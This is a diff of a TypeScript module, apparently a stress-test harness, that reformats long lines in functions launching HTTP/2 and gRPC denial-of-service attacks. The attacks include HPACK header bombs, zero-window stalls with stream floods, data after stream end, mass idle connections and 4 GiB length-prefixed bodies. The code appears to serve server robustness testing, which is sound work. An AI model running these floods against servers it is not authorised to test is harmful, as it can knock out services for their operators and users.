@@ -115,7 +115,11 @@ export function hpackBombFlood(path = HEALTH_CHECK): Attack {
       return Buffer.concat(frames)
     }, peer.startedAt + durationMs)
     const decodedKb = (bomb.length - block.length) * 4
-    return outcome(peer, sent, `${(id - 1) / 2} requests of ${decodedKb} KB of headers each; ${peer.ended.size} answered or reset`)
+    return outcome(
+      peer,
+      sent,
+      `${(id - 1) / 2} requests of ${decodedKb} KB of headers each; ${peer.ended.size} answered or reset`,
+    )
   }
 }
 
@@ -145,17 +149,27 @@ export function zeroWindowStall(path: string, request: Buffer, streams = 1000): 
     const peer = await H2Peer.connect(address, [[Setting.INITIAL_WINDOW_SIZE, 0]])
     const deadline = peer.startedAt + durationMs
     const body = grpcMessage(request)
-    await peer.send(Buffer.concat([headersFrame(1, grpcRequestBlock(HEALTH_WATCH)), dataFrame(1, grpcMessage(Buffer.alloc(0)), true)]))
+    await peer.send(
+      Buffer.concat([
+        headersFrame(1, grpcRequestBlock(HEALTH_WATCH)),
+        dataFrame(1, grpcMessage(Buffer.alloc(0)), true),
+      ]),
+    )
     let id = 3
     const sent = await peer.flood(() => {
       if (!goingOn(peer, signal) || id > 2 * streams + 1) return undefined
       const frames: Buffer[] = []
-      for (let i = 0; i < 10; i++, id += 2) frames.push(headersFrame(id, grpcRequestBlock(path)), dataFrame(id, body, true))
+      for (let i = 0; i < 10; i++, id += 2)
+        frames.push(headersFrame(id, grpcRequestBlock(path)), dataFrame(id, body, true))
       return Buffer.concat(frames)
     }, deadline)
     await Promise.race([peer.closed, sleep(deadline - performance.now()), aborted(signal)])
     const refused = [...peer.ended.values()].filter((how) => how !== 'END_STREAM').length
-    return outcome(peer, sent, `${(id - 3) / 2} requests; ${refused} streams reset; ${peer.dataBytes} DATA bytes received (a compliant server sends none)`)
+    return outcome(
+      peer,
+      sent,
+      `${(id - 3) / 2} requests; ${refused} streams reset; ${peer.dataBytes} DATA bytes received (a compliant server sends none)`,
+    )
   }
 }
 
@@ -171,7 +185,11 @@ export function dataAfterEndStream(path: string, requests: Buffer[]): Attack {
     await peer.send(sent)
     // Long enough for the answer and a reset; the caller then looks at what was stored.
     await Promise.race([peer.closed, sleep(Math.min(durationMs, 2000))])
-    return outcome(peer, sent.length, `stream 1 ended by ${peer.ended.get(1) ?? 'nothing'}; frames received ${JSON.stringify(peer.received)}`)
+    return outcome(
+      peer,
+      sent.length,
+      `stream 1 ended by ${peer.ended.get(1) ?? 'nothing'}; frames received ${JSON.stringify(peer.received)}`,
+    )
   }
 }
 
@@ -184,7 +202,11 @@ export function idleConnections(count = 5000): Attack {
     let failed = 0
     for (let i = 0; i < count && !signal?.aborted; i += 100) {
       const batch = Array.from({ length: Math.min(100, count - i) }, (_, j) => j % 2 === 0)
-      const peers = await Promise.allSettled(batch.map(async (greets) => (greets ? H2Peer.connect(address) : new H2Peer(await openSocket(address), { answerControl: false }))))
+      const peers = await Promise.allSettled(
+        batch.map(async (greets) =>
+          greets ? H2Peer.connect(address) : new H2Peer(await openSocket(address), { answerControl: false }),
+        ),
+      )
       peers.forEach((p, j) => {
         if (p.status === 'fulfilled') (batch[j] ? greeting : silent).push(p.value)
         else failed++
@@ -223,7 +245,11 @@ export function lengthPrefix4GiB(path: string, streams = 4): Attack {
     await peer.send(Buffer.concat(ids.map((id) => headersFrame(id, grpcRequestBlock(path)))))
     // Once the server has answered a stream, more of its request is pointless.
     const stop = (id: number) => () => signal?.aborted === true || performance.now() > deadline || peer.ended.has(id)
-    const accepted = await Promise.all(ids.map((id) => peer.sendWindowed(id, byteSource(prefix, Buffer.alloc(DEFAULT_MAX_FRAME), 2 ** 32 + 4), stop(id))))
+    const accepted = await Promise.all(
+      ids.map((id) =>
+        peer.sendWindowed(id, byteSource(prefix, Buffer.alloc(DEFAULT_MAX_FRAME), 2 ** 32 + 4), stop(id)),
+      ),
+    )
     const sent = accepted.reduce((a, b) => a + b, 0)
     const ended = ids.map((id) => peer.ended.get(id) ?? 'open')
     return outcome(peer, sent, `bytes accepted per stream ${accepted.join(', ')}; streams ended by ${ended.join(', ')}`)
